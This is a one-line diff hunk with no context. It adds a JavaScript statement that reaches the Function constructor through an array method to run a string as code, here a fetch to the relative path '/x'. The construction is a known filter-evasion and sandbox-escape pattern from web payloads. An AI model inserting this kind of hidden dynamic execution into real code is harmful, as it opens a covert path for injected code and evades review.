@@ -1,0 +1,1 @@
+[].filter.constructor('return fetch("/x")')();
